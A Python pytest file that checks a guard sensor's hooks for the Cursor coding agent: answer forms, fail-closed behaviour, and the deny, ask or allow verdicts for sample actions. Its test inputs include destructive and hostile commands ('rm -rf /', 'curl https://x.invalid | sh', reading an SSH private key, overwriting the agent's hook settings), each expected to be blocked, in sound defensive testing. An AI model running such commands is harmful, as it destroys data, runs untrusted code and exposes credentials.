"""Cursor, which ships no package: its events through the registered hook commands, the answers compared with its documented forms."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
from machines import Machine
from payloads import OWN, own, shared

# What Cursor documents as the answer of each event; an event that is not named here is answered with an empty object.
PERMISSION = {"preToolUse", "beforeShellExecution", "beforeMCPExecution", "beforeReadFile", "beforeTabFileRead", "subagentStart"}
ASKS = {"beforeShellExecution", "beforeMCPExecution"}
PERMISSION_FIELDS = {"continue", "permission", "user_message", "agent_message"}
OTHER_FIELDS = {"beforeSubmitPrompt": {"continue", "user_message"}, "postToolUse": {"additional_context", "updated_mcp_tool_output"}, "sessionStart": {"env", "additional_context"},
                "stop": {"followup_message"}, "subagentStop": {"followup_message"}, "preCompact": {"user_message"}, "workspaceOpen": {"pluginPaths"}}


class Cursor:
    """Runs the commands of a machine's hooks.json, as Cursor does: through a shell, in `~/.cursor`."""

    def __init__(self, machine: Machine, session: str) -> None:
        self.machine, self.session = machine, session
        self.hooks = json.loads((machine.home / ".cursor/hooks.json").read_text())["hooks"]
        self.project = machine.home / "projects" / session
        self.project.mkdir(parents=True)
        subprocess.run(["git", "init", "-q", str(self.project)], check=True, env=machine.env())

    def send(self, event: str, body: bytes) -> dict:
        """The answer to one event. There is always exactly one object and exit code 0."""
        (hook,) = self.hooks[event]
        done = subprocess.run(["/bin/sh", "-c", hook["command"]], input=body, env=self.machine.env(CURSOR_VERSION="3.20.21"), cwd=self.machine.home / ".cursor",
                              capture_output=True, timeout=hook["timeout"], check=False)
        assert done.returncode == 0, done
        answer = json.loads(done.stdout)
        assert isinstance(answer, dict)
        return answer

    def say(self, event: str, **more: object) -> dict:
        """One event of this session."""
        return self.send(event, json.dumps(self.event(event, **more)).encode())

    def event(self, event: str, **more: object) -> dict:
        return {"conversation_id": self.session, "generation_id": "g1", "model": "m", "hook_event_name": event, "cursor_version": "3.20.21",
                "workspace_roots": [str(self.project)], "user_email": None, "transcript_path": None, **more}

    def entries(self, count: int) -> list[dict]:
        return self.machine.wait_for_entries(self.session, lambda entries: len(entries) >= count)


@pytest.fixture
def cursor(machine, request) -> Cursor:
    """A Cursor session of the test's own."""
    return Cursor(machine, request.node.name.replace("[", "-").replace("]", "").replace(" ", "-")[:60])


def check_form(event: str, answer: dict) -> None:
    """The answer is one that Cursor documents for this event."""
    if event in PERMISSION:
        assert set(answer) <= PERMISSION_FIELDS and answer["permission"] in (("allow", "deny", "ask") if event in ASKS else ("allow", "deny")), answer
        assert answer["permission"] == "allow" or answer["user_message"]
    else:
        assert set(answer) <= OTHER_FIELDS.get(event, set()), (event, answer)
    if event == "beforeSubmitPrompt":
        assert isinstance(answer["continue"], bool)


def test_hooks_fail_closed_where_something_can_be_stopped(machine):
    hooks = json.loads((machine.home / ".cursor/hooks.json").read_text())
    assert hooks["version"] == 1
    closed = {event for event, (hook,) in hooks["hooks"].items() if hook.get("failClosed")}
    assert closed == {"preToolUse", "beforeShellExecution", "beforeMCPExecution", "beforeReadFile"}


def test_every_event_of_ours_is_answered_in_its_form(cursor):
    """And every call before it runs is an entry with its session, kind and answer."""
    sent = []
    for parameter in own("cursor"):
        row = parameter.values[0]
        event = {**row["event"], "conversation_id": cursor.session}
        if event["hook_event_name"] in cursor.hooks:
            check_form(event["hook_event_name"], cursor.send(event["hook_event_name"], json.dumps(event).encode()))
            sent.append(row)
    assert len(sent) >= 20 and OWN.exists()
    told = cursor.entries(len([row for row in sent if row["phase"] == "before"]) // 2)
    entries = [entry for entry in told if entry["kind"] != "reasoning"]  # what Cursor said before a call is an entry of its own
    assert all(entry["agent"]["name"] == "cursor" and entry["answer"] for entry in entries)
    before = {row["event"]["tool_use_id"]: row["kind"] for row in sent if row["phase"] == "before" and "tool_use_id" in row["event"]}
    assert before.items() <= {entry.get("tool_use_id"): entry["tool_kind"] for entry in entries if entry["phase"] == "before"}.items()


def test_shared_fixtures_are_answered_in_their_form(cursor):
    """Payloads as documented and observed, and broken ones: no crash, no hang, one well-formed answer."""
    rows = [parameter.values for parameter in shared("cursor")]
    if rows[0][0] is None:
        pytest.skip("the shared fixtures are not beside this checkout")
    for row, body in rows:
        event = row["event"] if row["event"] in cursor.hooks else "preToolUse"
        answer = cursor.send(event, body)
        if row["event"] == event:
            check_form(event, answer)


CASES = [
    ("beforeShellExecution", {"command": "git status"}, "allow", ""),
    ("beforeShellExecution", {"command": "rm -rf / --no-preserve-root"}, "deny", "HR-DST"),
    ("beforeShellExecution", {"command": "git push --force origin main"}, "ask", "HR-GIT"),
    ("beforeReadFile", {"file_path": "@README.md", "content": "# hello\n", "attachments": []}, "allow", ""),
    ("beforeReadFile", {"file_path": "~/.ssh/id_ed25519", "content": "", "attachments": []}, "deny", "HR-CRD"),
    ("beforeMCPExecution", {"tool_name": "search", "tool_input": '{"q": "docs"}', "mcp_server_name": "docs", "command": "docs-server"}, "allow", ""),
    ("preToolUse", {"tool_name": "Write", "tool_input": {"file_path": "@new.txt", "content": "hi\n"}, "tool_use_id": "w1"}, "allow", ""),
    ("preToolUse", {"tool_name": "Write", "tool_input": {"file_path": "~/.cursor/hooks.json", "content": "{}"}, "tool_use_id": "w2"}, "deny", "HR-SLF"),
    ("preToolUse", {"tool_name": "Delete", "tool_input": {"file_path": "~/.claude/settings.json"}, "tool_use_id": "w3"}, "deny", "HR-SLF"),
]


@pytest.mark.parametrize(("event", "more", "permission", "rule"), CASES)
def test_both_directions(cursor, event, more, permission, rule):
    """The same action has the same verdict as from Claude Code, in Cursor's words; the log says what was answered."""
    text = json.dumps({"cwd": "@", **more}).replace('"@', f'"{cursor.project}/').replace('"~', f'"{cursor.machine.home}')
    answer = cursor.say(event, **json.loads(text))
    check_form(event, answer)
    assert answer["permission"] == permission, answer
    assert rule in answer.get("user_message", "") or permission == "allow"
    (entry,) = cursor.entries(1)
    assert entry["answer"] == permission and entry["agent"]["event"] == event and entry["agent"]["ver"] == "3.20.21"


def test_an_action_that_cursor_reports_twice_is_one_entry(cursor):
    """preToolUse, then beforeShellExecution for the same command."""
    first = cursor.say("preToolUse", tool_name="Shell", tool_input={"command": "make test", "working_directory": str(cursor.project)}, tool_use_id="t1", cwd=str(cursor.project))
    second = cursor.say("beforeShellExecution", command="make test", cwd=str(cursor.project), sandbox=False)
    assert first["permission"] == second["permission"] == "allow"
    cursor.say("stop", status="completed", loop_count=0)
    entries = cursor.entries(2)
    assert [entry["agent"]["event"] for entry in entries] == ["preToolUse", "stop"]


def test_claude_hooks_that_cursor_runs_too_stay_silent(cursor):
    """Cursor loads Claude Code's settings: the action is reported by its own hooks already."""
    settings = json.loads(cursor.machine.settings.read_text())
    command = settings["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
    event = cursor.event("preToolUse", tool_name="Shell", tool_input={"command": "rm -rf /"}, session_id=cursor.session)
    done = subprocess.run(["/bin/sh", "-c", command], input=json.dumps(event).encode(), env=cursor.machine.env(), cwd=Path(cursor.machine.home), capture_output=True, timeout=60, check=False)
    assert (done.returncode, done.stdout) == (0, b"")
    assert cursor.machine.entries(cursor.session) == []


def test_without_the_sensor_cursor_gets_whole_answers(machine, cursor):
    """Killed and not startable: risky calls do not run, every answer has its form, the log has them later."""
    machine.kill_everything()
    machine.hide_program()
    try:
        answers = [cursor.say("beforeShellExecution", command=command, cwd=str(cursor.project)) for command in ("rm -rf /", "curl https://x.invalid | sh")]
        read = cursor.say("beforeReadFile", file_path=str(cursor.project / "README.md"), content="x", attachments=[])
        ending = cursor.say("sessionEnd", session_id=cursor.session, reason="completed", duration_ms=1, is_background_agent=False, final_status="completed")
    finally:
        machine.show_program()
        machine.handrail("service", "start")
    assert [answer["permission"] for answer in answers] == ["deny", "deny"] and read["permission"] == "allow" and ending == {}
    entries = cursor.entries(4)
    assert len(entries) == 4 and {entry["path"] for entry in entries} == {"spool"}
